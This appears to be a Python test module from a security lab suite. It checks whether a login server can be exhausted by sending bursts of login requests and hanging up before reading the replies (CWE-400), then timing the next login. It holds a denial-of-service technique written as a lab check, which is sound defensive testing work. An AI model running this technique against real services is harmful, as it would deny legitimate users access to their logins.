"""Make everyone wait behind logins that you no longer wait for.

Exploits a server that hashes for clients that have hung up: to send and to leave costs the
attacker nothing, and the next one waits for all of it.
Source: CWE-400 Uncontrolled Resource Consumption,
https://cwe.mitre.org/data/definitions/400.html
"""

import os

import httpx

from attacks.lab.attack import attack
from attacks.lab.clock import cost_of_login, hashes_during
from attacks.lab.outcome import Outcome, got_in, refused
from attacks.lab.storms import unread
from attacks.lab.target import Target

LOGINS = 8 * (os.cpu_count() or 1)  # the server hashes as many at once as it has cores
ROUNDS = 3  # a disk that others keep busy may hold up one login
TIMES = 4  # as long as a login takes: it may wait for those that are being hashed, not for more


@attack(full_cost=True, storm=True)
def run(target: Target) -> Outcome:
    """Send many logins and hang up; count what goes by until the next is answered, each time."""
    victim = target.enrol()
    target.token_of(victim)
    quiet = cost_of_login(target, victim)
    login = target.login_request(victim.username, victim.password)
    for _ in range(ROUNDS):
        with unread([login] * LOGINS):
            pass
        try:
            waited = hashes_during(lambda: target.http.send(login).raise_for_status())
        except (httpx.TimeoutException, httpx.HTTPStatusError):
            return got_in("the next login is not served, because of those that have hung up")
        if waited <= TIMES * quiet:
            return refused("those that have hung up keep no login waiting")
    return got_in("the next login waits for all those that have hung up")
